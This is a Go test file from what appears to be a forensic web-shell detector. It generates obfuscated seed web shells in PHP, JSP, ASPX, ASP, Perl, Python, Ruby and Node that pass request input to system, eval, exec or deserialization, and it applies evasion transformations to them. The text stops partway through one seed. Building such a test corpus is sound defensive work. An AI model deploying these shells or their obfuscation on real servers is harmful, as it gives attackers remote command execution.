package webshell

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand"
	"sort"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/signatures/decode"
)

// The metamorphic harness: seed web shells we wrote, in every language the analyzer reads,
// each rebuilt under one transformation at a time (and a few random others beside it). Every
// variant must be found as a web shell, with the decoding chain that hides it.

// opts are the transformations a seed applies when it renders.
type opts struct {
	v, w     string // names of the variables that carry the request value
	split    bool   // statements and calls spread over lines
	comments bool   // comments between and inside statements
	concat   bool   // names and literals built by concatenation
	mixCase  bool   // case changes where the language ignores case
	callback bool   // a callback instead of a direct call
	array    bool   // the request value passed through an array
}

// seed is one web shell, rendered under opts as code (without its page wrapper) so that
// encodings can wrap it.
type seed struct {
	name   string
	lang   string // php, jsp, aspx, jscript, asp, perl, python, ruby, node, lua, nginx
	path   string
	render func(o opts) string
	// head is kept in the clear in front of the rendered and encoded code: the import of
	// the framework that serves a handler (a file that names no framework is no handler)
	head string
}

// nl is the statement separator under split.
func nl(o opts) string {
	if o.split {
		return "\n\n    "
	}
	return " "
}

func cm(o opts, style string) string {
	if !o.comments {
		return ""
	}
	switch style {
	case "c":
		return " /* system($_GET['x']); Runtime.getRuntime().exec(request.getParameter(\"x\")) */ "
	case "vb":
		return " ' Execute Request(\"x\")\r\n"
	case "hash":
		return " # system(param('x'))\n"
	case "lua":
		return " -- os.execute(ngx.var.arg_x)\n"
	}
	return ""
}

// cat splits a literal into a concatenation under concat.
func cat(o opts, s, op, q string) string {
	if !o.concat || len(s) < 2 {
		return q + s + q
	}
	h := len(s) / 2
	return q + s[:h] + q + op + q + s[h:] + q
}

// mc mixes the case of a case-insensitive name under mixCase.
func mc(o opts, s string) string {
	if !o.mixCase {
		return s
	}
	b := []byte(s)
	for i := range b {
		if i%2 == 1 {
			b[i] = bytes.ToUpper(b[i : i+1])[0]
		} else {
			b[i] = bytes.ToLower(b[i : i+1])[0]
		}
	}
	return string(b)
}

var seeds = []seed{
	{name: "php-system", lang: "php", path: "/var/www/html/status.php", render: func(o opts) string {
		src := "$_REQUEST['cmd']"
		get := "$" + o.v + " = (" + src + ");"
		if o.array {
			get = "$" + o.w + " = array('k' => " + src + "); $" + o.v + " = $" + o.w + "['k'];"
		}
		call := mc(o, "system") + "($" + o.v + ");"
		switch {
		case o.callback:
			call = mc(o, "call_user_func") + "(" + cat(o, "system", ".", "'") + ", $" + o.v + ");"
		case o.concat:
			call = "$fn = " + cat(o, "system", ".", "'") + ";" + nl(o) + "$fn($" + o.v + ");"
		}
		return "if (" + mc(o, "isset") + "(" + src + ")) {" + nl(o) + cm(o, "c") + get + nl(o) + "echo '<pre>';" + cm(o, "c") + nl(o) + call + nl(o) + "}"
	}},
	{name: "php-eval", lang: "php", path: "/var/www/html/wp-content/uploads/cache.php", render: func(o opts) string {
		get := "$" + o.v + " = $_POST['z'];"
		if o.array {
			get = "$" + o.w + "[] = $_POST['z']; $" + o.v + " = $" + o.w + "[0];"
		}
		call := "@" + mc(o, "eval") + "($" + o.v + ");"
		switch {
		case o.callback:
			call = mc(o, "array_map") + "(" + cat(o, "assert", ".", "'") + ", array($" + o.v + "));"
		case o.concat:
			call = "$g = " + cat(o, "assert", ".", "'") + ";" + nl(o) + "$g($" + o.v + ");"
		}
		return get + nl(o) + cm(o, "c") + call
	}},
	{name: "php-cookie-passthru", lang: "php", path: "/var/www/html/inc/session.php", render: func(o opts) string {
		get := "$" + o.v + " = " + mc(o, "base64_decode") + "($_COOKIE['sid']);"
		if o.array {
			get = "$" + o.w + " = explode('|', " + mc(o, "base64_decode") + "($_COOKIE['sid'])); $" + o.v + " = $" + o.w + "[1];"
		}
		call := "function run_it($c) {" + nl(o) + mc(o, "passthru") + "($c);" + nl(o) + "}" + nl(o) + "run_it($" + o.v + ");"
		switch {
		case o.callback:
			call = mc(o, "register_shutdown_function") + "(" + cat(o, "passthru", ".", "'") + ", $" + o.v + ");"
		case o.concat:
			call = "$h = " + cat(o, "pass", ".", "'") + " . 'thru';" + nl(o) + "$h($" + o.v + ");"
		}
		return get + cm(o, "c") + nl(o) + call
	}},
	{name: "php-input-loader", lang: "php", path: "/var/www/html/xmlrpc-cache.php", render: func(o opts) string {
		get := "$" + o.v + " = " + mc(o, "file_get_contents") + "(" + cat(o, "php://input", ".", "'") + ");" + nl(o) +
			"$" + o.v + " = " + mc(o, "openssl_decrypt") + "($" + o.v + ", 'AES-128-ECB', 'e45e329feb5d925b');"
		if o.array {
			get += nl(o) + "$" + o.w + " = explode('|', $" + o.v + "); $" + o.v + " = $" + o.w + "[1];"
		}
		call := "class C { public function __invoke($p) { " + mc(o, "eval") + "($p . ''); } }" + nl(o) + "@" + mc(o, "call_user_func") + "(new C(), $" + o.v + ");"
		if o.callback {
			call = "$" + o.v + "s = array($" + o.v + ", 1); " + mc(o, "usort") + "($" + o.v + "s, " + cat(o, "assert", ".", "'") + ");"
		}
		return get + cm(o, "c") + nl(o) + call
	}},
	{name: "jsp-runtime", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/health.jsp", render: func(o opts) string {
		get := "String " + o.v + " = request.getParameter(" + cat(o, "cmd", "+", `"`) + ");"
		if o.array {
			get = "String[] " + o.w + " = { request.getParameter(\"cmd\") };" + nl(o) + "String " + o.v + " = " + o.w + "[0];"
		}
		call := "Process p = Runtime.getRuntime().exec(new String[] {" + cat(o, "/bin/sh", "+", `"`) + ", \"-c\", " + o.v + "});"
		if o.concat {
			call = "Process p = (Process) Runtime.class.getMethod(" + cat(o, "exec", "+", `"`) + ", String.class).invoke(Runtime.getRuntime(), " + o.v + ");"
		}
		return "if (request.getParameter(\"cmd\") != null) {" + nl(o) + get + cm(o, "c") + nl(o) + call + nl(o) +
			"java.io.InputStream in = p.getInputStream(); int c; while ((c = in.read()) != -1) { out.print((char) c); }" + nl(o) + "}"
	}},
	{name: "jsp-processbuilder", lang: "jsp", path: "/opt/jetty/webapps/app/status.jsp", render: func(o opts) string {
		get := "String " + o.v + " = request.getHeader(\"X-Token\");"
		if o.array {
			get = "java.util.List<String> " + o.w + " = new java.util.ArrayList<>(); " + o.w + ".add(request.getHeader(\"X-Token\"));" + nl(o) + "String " + o.v + " = " + o.w + ".get(0);"
		}
		return get + cm(o, "c") + nl(o) + "new ProcessBuilder(" + cat(o, "bash", "+", `"`) + ", \"-c\"," + nl(o) + o.v + ").redirectErrorStream(true).start();"
	}},
	{name: "aspx-process", lang: "aspx", path: "/inetpub/wwwroot/App_Data/help.aspx", render: func(o opts) string {
		get := "string " + o.v + " = Request.Form[" + cat(o, "c", "+", `"`) + "];"
		if o.array {
			get = "var " + o.w + " = new System.Collections.Generic.Dictionary<string, string>(); " + o.w + "[\"c\"] = Request.Form[\"c\"];" + nl(o) + "string " + o.v + " = " + o.w + "[\"c\"];"
		}
		return get + cm(o, "c") + nl(o) + "var psi = new System.Diagnostics.ProcessStartInfo(" + cat(o, "cmd.exe", "+", `"`) + ", \"/c \" + " + o.v + ");" + nl(o) +
			"psi.UseShellExecute = false; psi.RedirectStandardOutput = true;" + nl(o) + "Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());"
	}},
	{name: "aspx-jscript-eval", lang: "jscript", path: "/inetpub/wwwroot/error.aspx", render: func(o opts) string {
		get := "var " + o.v + " = Request.Item[" + cat(o, "pass", "+", `"`) + "];"
		if o.array {
			get = "var " + o.w + " = [Request.Item[\"pass\"]];" + nl(o) + "var " + o.v + " = " + o.w + "[0];"
		}
		return get + cm(o, "c") + nl(o) + "eval(" + o.v + ", " + cat(o, "unsafe", "+", `"`) + ");"
	}},
	{name: "asp-wscript", lang: "asp", path: "/inetpub/wwwroot/images/upload.asp", render: func(o opts) string {
		sep := "\r\n"
		get := o.v + " = " + mc(o, "Request") + "(" + cat(o, "c", " & ", `"`) + ")"
		if o.array {
			get = "Dim " + o.w + "(1)" + sep + o.w + "(0) = " + mc(o, "Request") + "(\"c\")" + sep + o.v + " = " + o.w + "(0)"
		}
		return get + sep + cm(o, "vb") + "Set sh = " + mc(o, "CreateObject") + "(" + cat(o, "WScript.Shell", " & ", `"`) + ")" + sep +
			"Set ex = sh." + mc(o, "Exec") + "(\"cmd /c \" & " + o.v + ")" + sep + "Response.Write ex.StdOut.ReadAll()"
	}},
	{name: "asp-execute", lang: "asp", path: "/inetpub/wwwroot/global.asp", render: func(o opts) string {
		sep := "\r\n"
		get := o.v + " = " + mc(o, "Request.Form") + "(" + cat(o, "code", " & ", `"`) + ")"
		if o.array {
			get = "Dim " + o.w + "(1)" + sep + o.w + "(0) = " + mc(o, "Request.Form") + "(\"code\")" + sep + o.v + " = " + o.w + "(0)"
		}
		return get + sep + cm(o, "vb") + mc(o, "Execute") + " " + o.v
	}},
	{name: "perl-cgi", lang: "perl", path: "/usr/lib/cgi-bin/stats.pl", render: func(o opts) string {
		get := "my $" + o.v + " = $q->param(" + cat(o, "c", ".", "'") + ");"
		if o.array {
			get = "my @" + o.w + " = ($q->param('c'));\nmy $" + o.v + " = $" + o.w + "[0];"
		}
		return "use CGI;\nmy $q = CGI->new;\n" + get + "\n" + cm(o, "hash") + "print $q->header('text/plain');\nsystem(" + cat(o, "sh -c ", ".", `"`) + " . $" + o.v + ");\n"
	}},
	{name: "python-cgi", lang: "python", path: "/usr/lib/cgi-bin/status.py", render: func(o opts) string {
		get := o.v + " = form.getvalue(" + cat(o, "cmd", " + ", "'") + ")"
		if o.array {
			get = o.w + " = [form.getvalue('cmd')]\n" + o.v + " = " + o.w + "[0]"
		}
		call := "subprocess.call(" + o.v + ", shell=True)"
		switch {
		case o.callback:
			call = "list(map(os.system, [" + o.v + "]))"
		case o.concat:
			call = "getattr(os, " + cat(o, "system", " + ", "'") + ")(" + o.v + ")"
		}
		return "import cgi, os, subprocess\nform = cgi.FieldStorage()\n" + get + "\n" + cm(o, "hash") + "print('Content-Type: text/plain')\nprint()\n" + call + "\n"
	}},
	{name: "ruby-cgi", lang: "ruby", path: "/usr/lib/cgi-bin/status.rb", render: func(o opts) string {
		get := o.v + " = cgi[" + cat(o, "c", " + ", "'") + "]"
		if o.array {
			get = o.w + " = [cgi['c']]\n" + o.v + " = " + o.w + "[0]"
		}
		call := "system(" + o.v + ")"
		switch {
		case o.callback:
			call = "[" + o.v + "].each { |x| system(x) }"
		case o.concat:
			call = "send(" + cat(o, "system", " + ", "'") + ", " + o.v + ")"
		}
		return "require 'cgi'\ncgi = CGI.new\n" + get + "\n" + cm(o, "hash") + "puts cgi.header\n" + call + "\n"
	}},
	// Node.js: an express route, a bare http server, a serverless handler and an ES module
	{name: "node-express-exec", lang: "node", path: "/srv/app/routes/health.js", render: func(o opts) string {
		get := "const " + o.v + " = req.query.cmd;"
		if o.array {
			get = "const " + o.w + " = [req.query.cmd];" + nl(o) + "const " + o.v + " = " + o.w + "[0];"
		}
		call := "cp.exec(" + o.v + ", (e, out) => res.send(out));"
		switch {
		case o.callback:
			call = "cp.exec.call(null, " + o.v + ", (e, out) => res.send(out));"
		case o.concat:
			call = "cp[" + cat(o, "exec", " + ", "'") + "](" + o.v + ", (e, out) => res.send(out));"
		}
		return "const express = require('express');\nconst cp = require(" + cat(o, "child_process", " + ", "'") + ");\nconst router = express.Router();\n" +
			"router.get('/health', (req, res) => {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) + "});\nmodule.exports = router;\n"
	}},
	{name: "node-http-eval", lang: "node", path: "/opt/app/server.js", render: func(o opts) string {
		collect := "let " + o.v + " = '';" + nl(o) + "rq.on('data', (chunk) => { " + o.v + " += chunk; });"
		if o.array {
			collect = "const " + o.w + " = [];" + nl(o) + "rq.on('data', (chunk) => " + o.w + ".push(chunk));" + nl(o) + "let " + o.v + " = '';" +
				nl(o) + "rq.on('end', () => { " + o.v + " = " + o.w + ".join(''); });"
		}
		call := "rs.end(String(eval(" + o.v + ")));"
		switch {
		case o.callback:
			call = "[" + o.v + "].forEach(eval); rs.end('ok');"
		case o.concat:
			call = "rs.end(String(globalThis[" + cat(o, "eval", " + ", "'") + "](" + o.v + ")));"
		}
		return "const http = require('http');\nhttp.createServer(function (rq, rs) {" + nl(o) + cm(o, "c") + collect + nl(o) +
			"rq.on('end', () => {" + nl(o) + call + nl(o) + "});\n}).listen(8181);\n"
	}},
	{name: "node-lambda-spawn", lang: "node", path: "/var/task/index.js", render: func(o opts) string {
		get := "const " + o.v + " = event.queryStringParameters.c;"
		if o.array {
			get = "const " + o.w + " = { c: event.queryStringParameters.c };" + nl(o) + "const " + o.v + " = " + o.w + ".c;"
		}
		call := "const out = spawnSync('/bin/sh', ['-c', " + o.v + "]);"
		switch {
		case o.callback:
			call = "const out = Reflect.apply(spawnSync, null, ['/bin/sh', ['-c', " + o.v + "]]);"
		case o.concat:
			call = "const out = require(" + cat(o, "child_process", " + ", "'") + ")[" + cat(o, "spawnSync", " + ", "'") + "]('/bin/sh', ['-c', " + o.v + "]);"
		}
		return "const { spawnSync } = require('child_process');\nexports.handler = async (event) => {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) +
			"return { statusCode: 200, body: String(out.stdout) };\n};\n"
	}},
	{name: "node-esm-vm", lang: "node", path: "/app/src/debug.mjs", render: func(o opts) string {
		get := "const " + o.v + " = req.body.code;"
		if o.array {
			get = "const " + o.w + " = new Map([['c', req.body.code]]);" + nl(o) + "const " + o.v + " = " + o.w + ".get('c');"
		}
		call := "res.end(String(vm.runInNewContext(" + o.v + ", { process })));"
		switch {
		case o.callback:
			call = "res.end(String(vm.runInNewContext.call(vm, " + o.v + ", { process })));"
		case o.concat:
			call = "res.end(String(vm[" + cat(o, "runInNewContext", " + ", "'") + "](" + o.v + ", { process })));"
		}
		return "import vm from 'node:vm';\nexport default function debug(req, res) {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) + "}\n"
	}},
	// a function name computed by string functions on constants
	{name: "php-computed-name", lang: "php", path: "/var/www/html/lib/cache.php", render: func(o opts) string {
		get := "$" + o.v + " = $_POST['k'];"
		if o.array {
			get = "$" + o.w + " = array('k' => $_POST['k']); $" + o.v + " = $" + o.w + "['k'];"
		}
		name := "$fn = " + mc(o, "substr") + "('xassert', 1);"
		if o.concat {
			name = "$fn = ('!' ^ '@') . " + cat(o, "ssert", ".", "'") + ";"
		}
		call := "$fn($" + o.v + ");"
		if o.callback {
			call = mc(o, "array_map") + "($fn, array($" + o.v + "));"
		}
		return get + nl(o) + cm(o, "c") + name + nl(o) + mc(o, "strtr") + "('a', 'b', 'c');" + nl(o) + call
	}},
	// a function's parameter called as a function, passed the name of one that runs commands
	{name: "php-callable-param", lang: "php", path: "/var/www/html/plugins/run.php", render: func(o opts) string {
		get := "$" + o.v + " = $_GET['c'];"
		if o.array {
			get = "$" + o.w + " = [$_GET['c']]; $" + o.v + " = $" + o.w + "[0];"
		}
		call := mc(o, "run_cb") + "(" + cat(o, "system", ".", "'") + ", $" + o.v + ");"
		if o.callback {
			call = "$h = 'run_cb';" + nl(o) + "$h(" + cat(o, "system", ".", "'") + ", $" + o.v + ");"
		}
		return "function run_cb($g, $p) {" + nl(o) + cm(o, "c") + "return $g($p);" + nl(o) + "}" + nl(o) + get + nl(o) + call
	}},
	// an uploaded file moved to a path the request names
	{name: "php-dropper", lang: "php", path: "/var/www/html/upload/up.php", render: func(o opts) string {
		get := "$" + o.v + " = $_FILES['up']['tmp_name']; $to = $_POST['to'];"
		if o.array {
			get = "$" + o.w + " = array('to' => $_POST['to']); $to = $" + o.w + "['to']; $" + o.v + " = $_FILES['up']['tmp_name'];"
		}
		if o.concat {
			get += nl(o) + "$to = $to . '/' . " + cat(o, "x.php", ".", "'") + ";"
		}
		call := mc(o, "move_uploaded_file") + "($" + o.v + ", $to);"
		if o.callback {
			call = mc(o, "call_user_func_array") + "(" + cat(o, "move_uploaded_file", ".", "'") + ", array($" + o.v + ", $to));"
		}
		return "if (!empty($_FILES)) {" + nl(o) + get + nl(o) + cm(o, "c") + call + nl(o) + "echo 'ok';" + nl(o) + "}"
	}},
	// a superglobal reached through a variable variable
	{name: "php-varvar", lang: "php", path: "/var/www/html/wp-content/themes/t/footer.php", render: func(o opts) string {
		get := "foreach (array(" + cat(o, "_GET", ".", "'") + ") as $s) { $r = $$s; }" + nl(o) + "$" + o.v + " = $r['c'];"
		if o.array {
			get = "foreach (array(" + cat(o, "_GET", ".", "'") + ") as $s) { $" + o.w + " = array($$s); }" + nl(o) + "$" + o.v + " = $" + o.w + "[0]['c'];"
		}
		call := mc(o, "system") + "($" + o.v + ");"
		if o.callback {
			call = mc(o, "call_user_func") + "(" + cat(o, "system", ".", "'") + ", $" + o.v + ");"
		}
		return get + nl(o) + cm(o, "c") + call
	}},
	// a command in a header the client sends, read from the environment
	{name: "php-header-env", lang: "php", path: "/var/www/html/index2.php", render: func(o opts) string {
		get := "$" + o.v + " = " + mc(o, "getenv") + "(" + cat(o, "HTTP_X_RUN", ".", "'") + ");"
		if o.array {
			get = "$" + o.w + " = array(" + mc(o, "getenv") + "('HTTP_X_RUN')); $" + o.v + " = $" + o.w + "[0];"
		}
		call := mc(o, "passthru") + "($" + o.v + ");"
		if o.callback {
			call = mc(o, "call_user_func") + "(" + cat(o, "passthru", ".", "'") + ", $" + o.v + ");"
		}
		return "if (" + mc(o, "getenv") + "('HTTP_X_RUN')) {" + nl(o) + get + nl(o) + cm(o, "c") + call + nl(o) + "}"
	}},
	// an ASP.NET server control's text runs a command
	{name: "aspx-webcontrol", lang: "aspx", path: "/inetpub/wwwroot/admin/tools.aspx", render: func(o opts) string {
		val := o.v + ".Text"
		pre := ""
		if o.array {
			pre = "string[] " + o.w + " = new string[] { " + o.v + ".Text };" + nl(o)
			val = o.w + "[0]"
		}
		return "%><form runat=\"server\"><asp:TextBox ID=\"" + o.v + "\" runat=\"server\" /></form><%" + nl(o) + pre + cm(o, "c") +
			"var psi = new System.Diagnostics.ProcessStartInfo(" + cat(o, "cmd.exe", "+", `"`) + ", \"/c \" + " + val + ");" + nl(o) +
			"psi.UseShellExecute = false;" + nl(o) + "System.Diagnostics.Process.Start(psi);"
	}},
	// an ASMX web method's parameters run a command
	{name: "asmx-webmethod", lang: "asmx", path: "/inetpub/wwwroot/svc/status.asmx", render: func(o opts) string {
		val := o.v
		pre := ""
		if o.array {
			pre = "string[] " + o.w + " = { " + o.v + " };" + nl(o)
			val = o.w + "[0]"
		}
		return "using System.Web.Services;\npublic class Svc : WebService {" + nl(o) + "[WebMethod]" + nl(o) + "public string Run(string " + o.v + ") {" + nl(o) +
			pre + cm(o, "c") + "var p = System.Diagnostics.Process.Start(" + cat(o, "cmd.exe", "+", `"`) + ", \"/c \" + " + val + ");" + nl(o) +
			"return p.StandardOutput.ReadToEnd();" + nl(o) + "}" + nl(o) + "}"
	}},
	// an assembly loaded from request bytes through reflection
	{name: "aspx-reflect-load", lang: "aspx", path: "/inetpub/wwwroot/App_Data/x.aspx", render: func(o opts) string {
		get := "byte[] " + o.v + " = System.Convert.FromBase64String(Request.Form[" + cat(o, "d", "+", `"`) + "]);"
		if o.array {
			get = "var " + o.w + " = new System.Collections.Generic.List<string>(); " + o.w + ".Add(Request.Form[\"d\"]);" + nl(o) +
				"byte[] " + o.v + " = System.Convert.FromBase64String(" + o.w + "[0]);"
		}
		return get + nl(o) + cm(o, "c") + "var asm = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(" + cat(o, "Load", "+", `"`) +
			", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { " + o.v + " });" + nl(o) + "asm.CreateInstance(\"P\").Equals(this);"
	}},
	// Runtime.exec reached by reflection on names spelled as byte arrays
	{name: "jsp-reflect-bytes", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/css.jsp", render: func(o opts) string {
		get := "String " + o.v + " = request.getParameter(" + cat(o, "q", "+", `"`) + ");"
		if o.array {
			get = "String[] " + o.w + " = new String[] { request.getParameter(\"q\") };" + nl(o) + "String " + o.v + " = " + o.w + "[0];"
		}
		return get + nl(o) + cm(o, "c") + "Class rt = Class.forName(new String(new byte[] {106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116, 105, 109, 101}));" + nl(o) +
			"Process p = (Process) rt.getMethod(new String(new byte[] {101, 120, 101, 99}), String.class).invoke(rt.getMethod(" + cat(o, "getRuntime", "+", `"`) + ").invoke(null), " + o.v + ");"
	}},
	// an XSLT stylesheet whose script block evaluates request input, compiled by the page
	{name: "aspx-xslt", lang: "aspx", path: "/inetpub/wwwroot/report.aspx", render: func(o opts) string {
		body := "function f() { var r = System.Web.HttpContext.Current.Request; eval(r.Item['" + o.v + "'], 'unsafe'); return ''; }"
		if o.array {
			body = "function f() { var r = System.Web.HttpContext.Current.Request; var " + o.w + " = [r.Item['" + o.v + "']]; eval(" + o.w + "[0], 'unsafe'); return ''; }"
		}
		return "string xslt = @\"<xsl:stylesheet version=\"\"1.0\"\" xmlns:xsl=\"\"http://www.w3.org/1999/XSL/Transform\"\" xmlns:msxsl=\"\"urn:schemas-microsoft-com:xslt\"\" xmlns:u=\"\"urn:u\"\">" +
			"<msxsl:script language=\"\"JScript\"\" implements-prefix=\"\"u\"\"><![CDATA[" + body + "]]></msxsl:script>" +
			"<xsl:template match=\"\"/\"\"><xsl:value-of select=\"\"u:f()\"\"/></xsl:template></xsl:stylesheet>\";" + nl(o) + cm(o, "c") +
			"var t = new System.Xml.Xsl.XslCompiledTransform();" + nl(o) + "var d = new System.Xml.XmlDocument(); d.LoadXml(xslt);" + nl(o) +
			"t.Load(d, System.Xml.Xsl.XsltSettings.TrustedXslt, new System.Xml.XmlUrlResolver());" + nl(o) +
			"t.Transform(new System.Xml.XmlDocument(), null, new System.IO.MemoryStream());"
	}},
	// a request read hidden in an encoded literal, evaluated by an eval wrapper
	{name: "jscript-eval-wrapper", lang: "jscript", path: "/inetpub/wwwroot/aspnet_client/e.aspx", render: func(o opts) string {
		read := "System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"" + b64("Request.Item[\""+o.v+"\"]") + "\"))"
		arg := o.w + "(" + read + ")"
		pre := ""
		if o.array {
			pre = "var arr = [" + o.w + "(" + read + ")];" + nl(o)
			arg = "arr[0]"
		}
		return "function " + o.w + "(s) {" + nl(o) + "return eval(s, " + cat(o, "unsafe", "+", `"`) + ");" + nl(o) + "}" + nl(o) + pre + cm(o, "c") + o.w + "(" + arg + ");"
	}},
	// any method of any object called by name through java.beans.Expression
	{name: "jsp-beans-expression", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/WEB-INF/x.jsp", render: func(o opts) string {
		get := "Object[] " + o.v + " = new Object[] { request.getParameter(" + cat(o, "c", "+", `"`) + ") };"
		if o.array {
			get = "java.util.List<Object> " + o.w + " = new java.util.ArrayList<>(); " + o.w + ".add(request.getParameter(\"c\"));" + nl(o) + "Object[] " + o.v + " = " + o.w + ".toArray();"
		}
		return get + nl(o) + cm(o, "c") + "StringBuilder m = new StringBuilder(); m.append((char) 101).append((char) 120).append((char) 101).append((char) 99);" + nl(o) +
			"Object r = new java.beans.Expression(Runtime.getRuntime(), m.toString(), " + o.v + ").getValue();"
	}},
	// a script engine handed the servlet request evaluates a script that reads it
	{name: "jsp-script-engine-request", lang: "jsp", path: "/opt/jetty/webapps/app/js.jsp", render: func(o opts) string {
		script := "var p = " + o.v + ".getParameter('c'); java.lang.Runtime.getRuntime().exec(p);"
		return "javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName(" + cat(o, "nashorn", "+", `"`) + ");" + nl(o) +
			cm(o, "c") + "e.put(\"" + o.v + "\", request);" + nl(o) + "e.eval(new String(java.util.Base64.getDecoder().decode(\"" + b64(script) + "\")));"
	}},
	// a class defined from BCEL bytes the page carries
	{name: "jsp-bcel", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/b.jsp", render: func(o opts) string {
		lit := "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dQ$cbN$c2$40$U$3d$d3$96$96$f2$X$q$Sc$8c$t$c4$85$Q$R$qu$c1$a2"
		load := "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(" + o.v + ")"
		if o.array {
			load = "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(" + o.w + "[0])"
		}
		pre := "String " + o.v + " = " + cat(o, lit, "+", `"`) + ";"
		if o.array {
			pre += nl(o) + "String[] " + o.w + " = { " + o.v + " };"
		}
		return pre + nl(o) + cm(o, "c") + "out.print(" + load + ".getConstructor(String.class).newInstance(request.getParameter(\"k\")));"
	}},
	// Java source built from request input, written out and compiled by javax.tools
	{name: "jsp-javac", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/c.jsp", render: func(o opts) string {
		get := "String " + o.v + " = request.getParameter(" + cat(o, "q", "+", `"`) + ");"
		if o.array {
			get = "String[] " + o.w + " = { request.getParameter(\"q\") };" + nl(o) + "String " + o.v + " = " + o.w + "[0];"
		}
		return get + nl(o) + cm(o, "c") + "javax.tools.JavaCompiler jc = javax.tools.ToolProvider.getSystemJavaCompiler();" + nl(o) +
			"String src = \"public class K { static { try { Runtime.getRuntime().exec(\\\"\" + " + o.v + " + \"\\\"); } catch (Exception e) {} } }\";" + nl(o) +
			"java.nio.file.Files.write(java.nio.file.Paths.get(\"/tmp/K.java\"), src.getBytes());" + nl(o) + "jc.run(null, null, null, \"/tmp/K.java\");"
	}},
	// Handlers a web framework serves: route variables and parameters, request reads of
	// each framework, into commands and code
	{name: "python-flask-route", lang: "python", path: "/srv/app/app.py", head: "from flask import Flask\nimport subprocess\napp = Flask(__name__)\n", render: func(o opts) string {
		arg, pre := o.v, ""
		if o.array {
			pre, arg = "    "+o.w+" = {'c': "+o.v+"}\n", o.w+"['c']"
		}
		call := "    return subprocess.getoutput(" + arg + ")\n"
		switch {
		case o.callback:
			call = "    return ''.join(map(subprocess.getoutput, [" + arg + "]))\n"
		case o.concat:
			call = "    return getattr(subprocess, " + cat(o, "getoutput", " + ", "'") + ")(" + arg + ")\n"
		}
		return cm(o, "hash") + "@app.route('/show/<path:" + o.v + ">')\ndef show(" + o.v + "):\n" + pre + call
	}},
	{name: "python-fastapi-query", lang: "python", path: "/srv/api/main.py", head: "from fastapi import FastAPI, Query\nimport os, base64\napi = FastAPI()\n", render: func(o opts) string {
		pre, arg := "", "c"
		if o.array {
			pre, arg = "    "+o.w+" = [c]\n", o.w+"[0]"
		}
		call := "    return os.popen(" + arg + ").read()\n"
		switch {
		case o.callback:
			call = "    return [p.read() for p in map(os.popen, [" + arg + "])]\n"
		case o.concat:
			call = "    return getattr(os, " + cat(o, "popen", " + ", "'") + ")(" + arg + ").read()\n"
		}
		return "@api.get(\"/run\")\nasync def run(" + o.v + ": str = Query(None), n: int = 1):\n" + cm(o, "hash") + "    c = base64.b64decode(" + o.v + ").decode()\n" + pre + call
	}},
	{name: "python-django-view", lang: "python", path: "/srv/site/ops/views.py", head: "from django.http import HttpResponse\nimport subprocess\n", render: func(o opts) string {
		get := "    " + o.v + " = request.POST.get(" + cat(o, "cmd", " + ", "'") + ", '')\n"
		if o.array {
			get = "    " + o.w + " = request.POST.getlist('cmd')\n    " + o.v + " = " + o.w + "[0]\n"
		}
		call := "    p = subprocess.Popen(" + o.v + ", shell=True, stdout=subprocess.PIPE)\n    return HttpResponse(p.communicate()[0])\n"
		switch {
		case o.callback:
			call = "    return HttpResponse(list(map(subprocess.getstatusoutput, [" + o.v + "])))\n"
		case o.concat:
			call = "    p = getattr(subprocess, " + cat(o, "Popen", " + ", "'") + ")(" + o.v + ", shell=True, stdout=subprocess.PIPE)\n    return HttpResponse(p.communicate()[0])\n"
		}
		return "def status(request):\n" + cm(o, "hash") + get + call
	}},
	{name: "python-aiohttp-match", lang: "python", path: "/srv/svc/server.py", head: "from aiohttp import web\nimport asyncio\n", render: func(o opts) string {
		get := "    " + o.v + " = request.match_info['c']\n"
		if o.array {
			get = "    " + o.w + " = dict(request.match_info)\n    " + o.v + " = " + o.w + "['c']\n"
		}
		call := "    p = await asyncio.create_subprocess_shell(" + o.v + ", stdout=asyncio.subprocess.PIPE)\n"
		switch {
		case o.callback:
			call = "    p = await asyncio.gather(*map(asyncio.create_subprocess_shell, [" + o.v + "]))\n"
		case o.concat:
			call = "    p = await getattr(asyncio, " + cat(o, "create_subprocess_shell", " + ", "'") + ")(" + o.v + ")\n"
		}
		return "async def handle(request):\n" + cm(o, "hash") + get + call + "    return web.Response(text='ok')\n"
	}},
	{name: "python-tornado-path", lang: "python", path: "/srv/tornado/app.py", head: "import tornado.web\n", render: func(o opts) string {
		pre, arg := "", o.v
		if o.array {
			pre, arg = "        "+o.w+" = ["+o.v+"]\n", o.w+"[0]"
		}
		call := "        self.write(str(eval(" + arg + ")))\n"
		switch {
		case o.callback:
			call = "        self.write(str(list(map(eval, [" + arg + "]))))\n"
		case o.concat:
			pre, call = "", "        c = self.get_argument("+cat(o, "code", " + ", "'")+")\n        self.write(str(eval(c)))\n"
		}
		return "class Calc(tornado.web.RequestHandler):\n" + cm(o, "hash") + "    def get(self, " + o.v + "):\n" + pre + call
	}},
	{name: "python-pickle-body", lang: "python", path: "/srv/app/cache.py", head: "from flask import Flask, request\nimport pickle, base64\napp = Flask(__name__)\n", render: func(o opts) string {
		get := "    " + o.v + " = base64.b64decode(request.get_data())\n"
		if o.array {
			get = "    " + o.w + " = [base64.b64decode(request.get_data())]\n    " + o.v + " = " + o.w + "[0]\n"
		}
		call := "    return str(pickle.loads(" + o.v + "))\n"
		pre := ""
		switch {
		case o.callback:
			pre, call = "def load(b):\n    return pickle.loads(b)\n", "    return str(load("+o.v+"))\n"
		case o.concat:
